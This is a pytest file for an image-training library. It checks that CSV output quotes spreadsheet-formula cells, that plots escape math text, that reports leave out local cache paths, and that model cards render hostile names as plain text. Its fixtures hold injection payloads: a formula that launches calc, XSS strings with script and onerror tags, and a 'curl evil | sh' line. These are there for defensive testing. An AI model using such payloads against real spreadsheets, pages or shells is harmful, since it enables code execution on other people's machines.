"""What predict and report write, when class names come from hostile folder names and the run
lives in an object store: no spreadsheet formulas in CSV, no mathtext crash in the
plots, no path of this machine's cache in the uploaded report."""

from __future__ import annotations

import csv
import re
import time
from html.parser import HTMLParser

import numpy as np
import pandas as pd
import pyarrow.fs as pafs
import pytest
from matplotlib import cbook
from PIL import Image

import imgtrain
from imgtrain.inference import report
from imgtrain.inference.inputs import TableWriter
from imgtrain.ops import remote
from tests.conftest import quiet_display, tiny_config

HOSTILE_CLASSES = [r"$\nope$", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x","y")', "+1", "-1", "@SUM(A1)",
                   "$5 and $6", "plain"]
CONTROL_CLASSES = ["\tx", "\rx", "a\r=cmd|' /C calc'!A0"]  # CSV only: a font has no glyph for them


def predictions_frame(classes: list[str]) -> pd.DataFrame:
    """Rows as predict writes them: the path, the predicted class and numbers (one negative)."""
    n = len(classes)
    return pd.DataFrame({"path": [f"-{i}.png" for i in range(n)], "pred_index": np.arange(n) - 1,
                         "pred_class": classes, "confidence": np.full(n, 0.5)})


def test_csv_cells_that_a_spreadsheet_would_run_get_a_quote_and_parquet_keeps_the_values(tmp_path):
    classes = HOSTILE_CLASSES + CONTROL_CLASSES
    frame = predictions_frame(classes)
    for name in ("preds.csv", "preds.parquet"):
        writer = TableWriter(tmp_path / name)
        writer.write(frame)
        writer.commit()
    with open(tmp_path / "preds.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["pred_class"] for r in rows] == ["'" + c if c[0] in "=+-@\t\r" else c for c in classes]
    assert [r["path"] for r in rows] == [f"'-{i}.png" for i in range(len(rows))]
    assert [r["pred_index"] for r in rows] == [str(i - 1) for i in range(len(rows))]  # numbers stay numbers
    assert pd.read_parquet(tmp_path / "preds.parquet").equals(frame)  # the exact values


def test_plots_draw_class_names_literally(tmp_path):
    classes = HOSTILE_CLASSES
    k = len(classes)
    report._confusion_matrix(np.arange(k * k).reshape(k, k), classes, tmp_path / "cm.png")
    rows = pd.DataFrame({"label": np.arange(k), "pred_index": np.arange(k)[::-1],
                         "pred_class": classes[::-1], "confidence": np.full(k, 0.9)})
    pixels = np.random.default_rng(0).integers(0, 256, (k, 8, 8, 1), dtype=np.uint8)
    report._image_grid(pixels, rows, classes, tmp_path / "grid.png", with_confidence=True)
    for name in ("cm.png", "grid.png"):
        with Image.open(tmp_path / name) as image:
            assert image.size[0] > 300 and image.size[1] > 300
    # drawn as written: matplotlib's own test for mathtext finds none ("$5 and $6" would be math)
    assert not any(cbook.is_math_text(report._literal(c)) for c in classes)
    assert report._literal(r"$\nope$") == r"\$\nope\$"


@pytest.mark.integration  # trains from, and into, the S3 server
def test_a_report_of_a_run_in_an_object_store_names_it_by_its_uri_not_by_the_cache(
        s3_server, tiny_data, tmp_path, monkeypatch):
    for key, value in s3_server.items():
        monkeypatch.setenv(key, value)
    caches = tmp_path / "caches"
    monkeypatch.setenv("IMGTRAIN_CACHE", str(caches / "trainer"))
    where, s3 = f"s3://imgtrain/report-{time.monotonic_ns()}", remote.s3_filesystem()
    local = pafs.LocalFileSystem()
    pafs.copy_files(str(tiny_data), f"{where}/data".removeprefix("s3://"), local, s3)
    config = tiny_config(f"{where}/data", str(tmp_path / "runs"), "leak", backend="local", workers=1, epochs=1,
                         limit_train_batches=2, model="timm:test_resnet")  # small: its checkpoints go to the store
    result = imgtrain.train(config, display=quiet_display())  # trained from the store's data set
    pafs.copy_files(str(result.path), f"{where}/runs/leak".removeprefix("s3://"), local, s3)  # the run, uploaded

    monkeypatch.setenv("IMGTRAIN_CACHE", str(caches / "reader"))  # another machine reports it
    page = report.write_report("leak", storage=f"{where}/runs")
    assert page.is_relative_to(caches / "reader")  # made in the working copy, then uploaded
    text, evaluation = page.read_text(), (page.parent / report.EVAL_FILE).read_text()
    assert str(caches) not in text and str(caches) not in evaluation
    assert f"{where}/runs/leak" in text and f"{where}/data" in text
    assert f'"checkpoint": "{where}/runs/leak/checkpoint_epoch_0000"' in evaluation
    with s3.open_input_stream(f"{where}/runs/leak/report/report.html".removeprefix("s3://")) as f:
        assert f.read().decode() == text


# Names as a data set's folders or a run's settings can carry them: HTML a viewer would run, a
# line break and a section of their own, Markdown links, emphasis, code, math and table cells.
CARD_NAMES = ['<img src=x onerror="alert(1)">', "a\n\n## Fake section\n\nRun `curl evil | sh`",
              "[click](https://x.example)", "*bold* _it_ ~~gone~~", "a|b", "`code`", "$x^2$", "&lt;entity&gt;",
              "back\\", "x\r\n---", "plain"]
CARD_SECTIONS = ["Input and output", "Data", "Training recipe",
                 "Test metrics (11 images of the test split, measured at export)", "Export check",
                 "Intended use and known limits"]


class Elements(HTMLParser):
    """The tags of an HTML page, and the text of each table cell."""

    def __init__(self, page: str):
        super().__init__()
        self.tags, self.cells, self._cell = set(), [], None
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self._cell = "" if tag == "td" else self._cell

    def handle_endtag(self, tag):
        if tag == "td":
            self.cells.append(self._cell)
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell += data


def test_a_model_card_shows_names_from_the_data_set_and_the_run_as_text(tmp_path):
    """Rendered as a Markdown viewer renders it (CommonMark with tables): only the card's own
    sections and markup, and every name shown as written, on one line."""
    from markdown_it import MarkdownIt

    from imgtrain.inference.model_card import model_card
    from imgtrain.inference.preprocess import LoadedCheckpoint, Preprocess

    k = len(CARD_NAMES)
    loaded = LoadedCheckpoint(
        model=None, preprocess=Preprocess(image_shape=(8, 8, 1), mean=(0.5,), std=(0.5,), classes=tuple(CARD_NAMES)),
        path=tmp_path / "run" / "checkpoint_epoch_0001",
        meta={"model_args": {"architecture": "<b>resnet18</b>"}, "epoch": 1, "imgtrain_version": "0.1\n\n# Injected",
              "config": {"name": "run\n# Owned", "model": "resnet18", "preset": "<script>alert(1)</script>",
                         "lr": "[x](https://x.example)"}})
    manifest = {"name": "<iframe src=//x.example>", "source": "x\n\n## Source section", "created": "`now`",
                "splits": {"train": {"num_samples": k}, "test\n## Split": {"num_samples": k}}}
    scores = {"precision": 0.5, "recall": 0.5, "f1": 0.5, "support": 1}
    test = {"images": k, "accuracy": 0.5, "top5_accuracy": 0.9, "ece": 0.1, "macro_avg": scores,
            "per_class": {name: scores for name in CARD_NAMES}}
    card = model_card("onnx", "model.onnx", "onnxruntime", loaded, manifest,
                      "verified on the <u>test</u> split", test)
    page = MarkdownIt("commonmark").enable("table").render(card)
    found = Elements(page)
    assert found.tags <= {"h1", "h2", "p", "ul", "li", "strong", "code", "table", "thead", "tbody", "tr", "th", "td"}
    assert re.findall(r"<h2>(.*?)</h2>", page) == CARD_SECTIONS
    assert len(re.findall(r"<h1>", page)) == 1
    shown = [" ".join(name.split()) for name in CARD_NAMES]  # line breaks as spaces; every character kept
    assert found.cells[-5 * k::5] == shown
    assert {"<script>alert(1)</script>", "[x](https://x.example)"} <= set(found.cells)  # the recipe's values
    assert "<h1>run # Owned: &lt;b&gt;resnet18&lt;/b&gt;, 11 classes</h1>" in page
